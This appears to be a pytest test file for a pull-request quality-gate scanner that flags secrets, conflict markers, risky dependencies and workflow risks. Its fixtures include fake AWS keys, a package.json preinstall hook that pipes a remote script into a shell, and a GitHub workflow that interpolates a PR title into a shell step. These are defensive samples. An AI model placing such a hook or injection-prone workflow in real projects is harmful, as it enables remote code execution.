"""The gates together: levels, gaps, and secrets by the real scanner."""

import asyncio
import random
import string

import pytest
from pydantic import ValidationError

from codeflow_action.actions.quality_gates import QualityGates
from codeflow_action.actions.quality_gates.gate import GateLevel
from codeflow_action.engine.findings import Severity
from codeflow_action.engine.outcome import Reason, Skipped
from codeflow_action.engine.ports import Absent
from codeflow_action.engine.pull_request import ChangedFile, FileKind, FileStatus, Gap
from codeflow_action.engine.scans import ScannerFailed
from codeflow_action.integrations.scanners import BundledScanners
from tests.actions.gating import NoSecrets, check, only, task_of
from tests.review.changes import changed, numbered

EMPTY = "x = 1\n"
PREINSTALL = '{"scripts": {"preinstall": "curl https://a.example/x.sh | sh"}}\n'
GREET = """on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.pull_request.title }}"
"""


def run(files, heads=None, scanners=None, options=None, **fields):
    task = task_of(tuple(files), heads or {}, scanners=scanners, **fields)
    return asyncio.run(QualityGates.model_validate(options or {}).run(task))


@pytest.fixture(scope="module")
def kingfisher(rule_cache):
    return BundledScanners({"KF_RULE_CACHE_DIR": str(rule_cache)})


def credentials():
    """Return the two lines of a made-up key pair, and its secret half; no sign is there twice."""
    draw = random.sample
    name = "AKIA" + "".join(draw("BCDEFGHJLMNOPQRSTUVWXYZ234567", 16))
    secret = "".join(draw(string.ascii_letters + string.digits, 40))
    return f"AWS_ACCESS_KEY_ID={name}\nAWS_SECRET_ACCESS_KEY={secret}\n", secret


def test_a_committed_secret_is_an_error_and_is_not_shown(kingfisher):
    lines, secret = credentials()
    found = check("deploy/prod.env", EMPTY + lines, EMPTY, scanners=kingfisher)
    assert {one.severity for one in found} == {Severity.ERROR}
    assert {one.line for one in found} <= {2, 3}
    assert secret not in repr(found)
    assert all(one.rule.startswith("secrets/") for one in found)


def test_a_secret_among_tests_is_a_notice(kingfisher):
    lines, _ = credentials()
    for path in ("tests/prod.env", "docs/use.md", "README.txt", "a_test.go"):
        assert {one.severity for one in check(path, lines, scanners=kingfisher)} == {
            Severity.NOTICE
        }, path


def test_an_old_secret_is_not_this_pull_requests(kingfisher):
    lines, _ = credentials()
    old = lines + numbered(30)
    assert check("prod.env", old + "x\n", old, scanners=kingfisher) == ()


def test_the_level_caps(kingfisher):
    lines, _ = credentials()
    found = check("prod.env", lines, scanners=kingfisher, secrets="notice")
    assert {one.severity for one in found} == {Severity.NOTICE}
    assert check("prod.env", lines, scanners=kingfisher, secrets="off") == ()


@pytest.mark.parametrize(
    ("gate", "path", "text", "advice"),
    [
        ("conflict_markers", "a.py", "<<<<<<< ours\n", "Resolve the conflict and remove"),
        ("debug_leftovers", "a.js", "debugger;\n", "Remove it before merging."),
        ("debug_leftovers", "a.js", "debugger;\n" * 30, "Fix these first, then look"),
        ("hidden_unicode", "a.py", "x = 1  # \u202e\n", "Remove the characters, or write"),
        ("file_hygiene", ".env", "KEY=1\n", "Commit an `.env.example` without"),
        ("suppressions", "a.py", "import os  # noqa\n", "Fix the cause, or say in a"),
        ("dependencies", "requirements.txt", "reqeusts==2.0\n", "Check the name. If it is"),
        ("dependencies", "package.json", PREINSTALL, "Check what it does."),
        ("runs_by_itself", "package.json", PREINSTALL, "Nobody is asked before it does."),
        ("workflow_risk", ".github/workflows/greet.yml", GREET, "Pass it in through `env:`"),
        ("broken_files", "a.json", "{", ""),  # the parser's error is what one acts on
    ],
)
def test_a_message_ends_with_what_to_do(gate, path, text, advice):
    finding = check(path, text, **only(gate, level="error"))[-1]
    assert finding.advice.startswith(advice)
    assert finding.message.endswith(f". {finding.advice}" if advice else "that parsed.")


@pytest.mark.parametrize("gate", QualityGates().gates, ids=lambda gate: gate.name)
def test_every_gate_has_an_option_of_its_name_and_a_sentence(gate):
    assert getattr(QualityGates(), gate.name) == gate
    for given in ("notice", {"level": "notice"}):
        set_ = getattr(QualityGates.model_validate({gate.name: given}), gate.name)
        assert set_ == gate.model_copy(update={"level": GateLevel.NOTICE})
    assert gate.__doc__


def test_bad_patterns_are_refused():
    with pytest.raises(ValidationError):
        QualityGates.model_validate({"ignore": ["["]})
    with pytest.raises(ValidationError):
        QualityGates.model_validate({"secrets": {"ignore": ["["]}})


def test_a_gate_may_ignore_files_that_others_look_at():
    file = changed("", "breakpoint()\n<<<<<<< HEAD\n", "a.py")
    options = {"debug_leftovers": {"ignore": ["*.py"]}}
    done = run([file], {"a.py": b"breakpoint()\n<<<<<<< HEAD\n"}, options=options)
    assert [one.rule for one in done.findings] == ["conflict_markers"]


def test_ignored_files_are_not_looked_at():
    file = changed("", "breakpoint()\n", "a.py")
    assert run([file], {"a.py": b"breakpoint()\n"}).findings
    skipped = run([file], {"a.py": b"breakpoint()\n"}, options={"ignore": ["*.py"]})
    assert skipped == Skipped(
        reason=Reason.NO_REVIEWABLE_CHANGES, detail="no changed file to check"
    )


class Broken:
    async def secrets(self, files):
        raise ScannerFailed("no rules")


def test_a_gate_that_cannot_run_is_no_pass_and_stops_no_other():
    done = run([changed("", "breakpoint()\n", "a.py")], {"a.py": b"breakpoint()\n"}, Broken())
    assert [one.title for one in done.findings] == ["Debug leftover: breakpoint()"]
    (short,) = done.shortfalls
    assert (short.reason, short.severity) == (Reason.GATE_NOT_RUN, Severity.ERROR)
    assert "secrets could not run: no rules" in short.detail


class Buggy:
    async def secrets(self, files):
        raise KeyError("a bug of ours")


def test_a_gate_that_breaks_is_no_pass_and_loses_no_other_gates_findings():
    bugs = []
    file, heads = changed("", "breakpoint()\n", "a.py"), {"a.py": b"breakpoint()\n"}
    done = run([file], heads, Buggy(), on_bug=lambda name, error: bugs.append((name, error)))
    assert [one.title for one in done.findings] == ["Debug leftover: breakpoint()"]
    (short,) = done.shortfalls
    assert (short.reason, short.severity) == (Reason.GATE_NOT_RUN, Severity.ERROR)
    assert short.detail == "secrets could not run: it crashed (KeyError)"
    ((name, error),) = bugs
    assert (name, type(error)) == ("secrets", KeyError)


@pytest.mark.parametrize(
    ("file", "content", "severity"),
    [
        (ChangedFile(path="a", status=FileStatus.MODIFIED, gap=Gap.UNAVAILABLE), None, "error"),
        (ChangedFile(path="a", status=FileStatus.MODIFIED, gap=Gap.TOO_LARGE), None, "warning"),
        (changed("", EMPTY, "a"), Absent.UNAVAILABLE, "error"),
        (changed("", EMPTY, "a"), Absent.TOO_LARGE, "warning"),
    ],
)
def test_what_could_not_be_looked_at_is_said(file, content, severity):
    done = run([file], {"a": content} if content else {})
    (short,) = done.shortfalls
    assert short.severity.value == severity
    assert short.detail.startswith("a was not checked: ")


@pytest.mark.parametrize(
    "file",
    [
        ChangedFile(path="a", status=FileStatus.REMOVED, gap=Gap.UNAVAILABLE),
        ChangedFile(path="a", status=FileStatus.MODIFIED, gap=Gap.BINARY),
        ChangedFile(path="a", status=FileStatus.ADDED, kind=FileKind.SUBMODULE),
        ChangedFile(path="a", status=FileStatus.RENAMED, previous_path="b"),
    ],
)
def test_nothing_to_look_at_is_no_gap(file):
    assert run([file]).shortfalls == ()


@pytest.mark.parametrize("path", ["a.py", ".env.local", "ci/x.YML", "Dockerfile", "u16.ps1"])
def test_a_text_that_a_zero_byte_hides_is_said(path):
    hidden = ChangedFile(path=path, status=FileStatus.MODIFIED, gap=Gap.BINARY)
    (short,) = run([hidden]).shortfalls
    assert short.detail == f"{path} was not checked: its name says text, but its content is binary"
    assert short.severity is Severity.WARNING
    gone = ChangedFile(path=path, status=FileStatus.REMOVED, gap=Gap.BINARY)
    picture = ChangedFile(path="a.png", status=FileStatus.MODIFIED, gap=Gap.BINARY)
    assert run([gone, picture]).shortfalls == ()


def test_files_that_github_left_out_are_said():
    done = run([], files_left_out="3,000 of 3,200 files")
    assert [one.detail for one in done.shortfalls] == ["3,000 of 3,200 files"]


def test_long_lines_are_data():
    long = f"debugger; {'x' * 3_000}\n"
    assert run([changed("", long, "a.js")], {"a.js": long.encode()}, NoSecrets()).findings == ()
